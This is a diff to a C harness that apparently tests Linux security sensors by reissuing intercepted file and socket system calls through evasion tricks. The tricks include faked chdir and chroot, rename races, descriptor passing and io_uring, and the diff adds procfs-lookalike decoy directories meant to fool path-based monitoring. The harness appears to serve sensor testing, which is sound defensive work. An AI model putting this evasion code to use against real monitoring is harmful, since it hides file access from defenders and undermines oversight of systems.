@@ -10,7 +10,6 @@
 #include <ctype.h>
 #include <errno.h>
 #include <fcntl.h>
-#include <linux/audit.h>
 #include <linux/filter.h>
 #include <linux/io_uring.h>
 #include <linux/mount.h>
@@ -39,10 +38,11 @@
 #define LEVEL 80
 #define RACES 200000
 
-// A system call on a file. `at` is the index of the directory descriptor among the arguments; the path is the next argument.
+// A system call on a file. `at` is the index of the directory descriptor among the arguments; the path is the next argument. `plain`
+// is set if the call was made without the evasion.
 struct call {
   long number, arguments[6], result;
-  int at, error, directory;
+  int at, error, directory, plain;
   const char *path;
   char parent[PATH_MAX], name[PATH_MAX];
 };
@@ -84,6 +84,9 @@ static int of_process(const char *path) {
   return strncmp(path, "/proc/", 6) == 0 && isdigit(path[6]) && atoi(path + 6) != getpid();
 }
 
+// A directory that the sensor may take for the file's: of procfs where the file is, since sensors trust names that begin alike.
+static const char *decoy(struct call *call) { return of_process(call->path) ? "/proc/self" : "/usr/share"; }
+
 static int is_target(const char *path) {
   if (targets == NULL || path == NULL || path[0] != '/') return 0;
   for (const char *each = targets; *each != 0; each += strcspn(each, "|"), each += *each == '|') {
@@ -107,8 +110,7 @@ static long raw(struct call *call, int directory, const char *path) {
 // Runs `body` in a child that shares memory and what the clone flags `shared` name, and waits for it.
 static void partner(int shared, int (*body)(void *), struct call *call) {
   _Alignas(16) char stack[STACK];
-  int status;
-  int pid = need(clone(body, stack + STACK, CLONE_VM | CLONE_VFORK | shared, call), "clone");
+  int status, pid = need(clone(body, stack + STACK, CLONE_VM | CLONE_VFORK | shared, call), "clone");
   need(waitpid(pid, &status, __WALL), "waitpid");
   if (status != 0) _exit(UNUSABLE);
 }
@@ -221,7 +223,7 @@ static int body_faked_chdir(void *of) {
   struct call *call = of;
   if (!opened(call, chdir(call->parent))) return 0;
   fake(SYS_chdir);
-  need(chdir("/usr/share"), "chdir");
+  need(chdir(decoy(call)), "chdir");
   raw(call, AT_FDCWD, call->name);
   return 0;
 }
@@ -238,7 +240,7 @@ static int body_faked_close(void *of) {
 static int body_faked_chroot(void *of) {
   struct call *call = of;
   fake(SYS_chroot);
-  need(chroot("/usr/share"), "chroot");
+  need(chroot(decoy(call)), "chroot");
   raw(call, AT_FDCWD, call->path);
   return 0;
 }
@@ -355,7 +357,8 @@ static void race(struct call *call) {
   *racing = 0;
   need(waitpid(pid, &status, __WALL), "waitpid");
   munmap(racing, sizeof *racing);
-  if (status != 0) unusable("rename");
+  // The deed's user may not rename this directory.
+  call->plain = status != 0;
 }
 
 static int ring_operation(long number) {
@@ -414,7 +417,7 @@ static void by_text(struct call *call) {
 static int by_descriptor(struct call *call) {
   if (is("scm-rights")) received(call, body_send_directory, 0);
   else if (is("shared-descriptors")) {
-    call->directory = need(open_raw("/usr/share", O_RDONLY | O_DIRECTORY), "/usr/share");
+    call->directory = need(open_raw(decoy(call), O_RDONLY | O_DIRECTORY), "decoy");
     int instead = call->directory;
     partner(CLONE_FILES, body_replace, call);
     if (call->directory < 0) close(instead);
@@ -428,13 +431,11 @@ static int by_descriptor(struct call *call) {
 static void by_working_directory(struct call *call) {
   int before = need(open_raw(".", O_PATH | O_DIRECTORY), ".");
   partner(CLONE_FS, body_chdir, call);
-  if (call->directory < 0) {
-    close(before);
-    return;
+  if (call->directory >= 0) {
+    raw(call, AT_FDCWD, call->name);
+    call->directory = before;
+    partner(CLONE_FS, body_fchdir, call);
   }
-  raw(call, AT_FDCWD, call->name);
-  call->directory = before;
-  partner(CLONE_FS, body_fchdir, call);
   close(before);
 }
 
@@ -494,7 +495,7 @@ static long dispatch(long number, int at, long a, long b, long c, long d, long e
     make_directory(place);
     split(&call);
     apply(&call);
-    if (call.result >= 0) record_use(call.path);
+    if (call.result >= 0 && !call.plain) record_use(call.path);
     pthread_mutex_unlock(&lock);
   }
   errno = call.error;
@@ -576,7 +577,7 @@ int fchmodat(int directory, const char *path, mode_t mode, int flags) {
 
 int socket(int domain, int type, int protocol) {
   struct call call = {.arguments = {domain, type, protocol}};
-  if (!is("received-socket") || (domain != AF_INET && domain != AF_INET6)) return (int)syscall(SYS_socket, domain, type, protocol);
+  if (!is("received-socket") || domain == AF_NETLINK) return (int)syscall(SYS_socket, domain, type, protocol);
   pthread_mutex_lock(&lock);
   received(&call, body_send_socket, 1);
   record_use("socket");
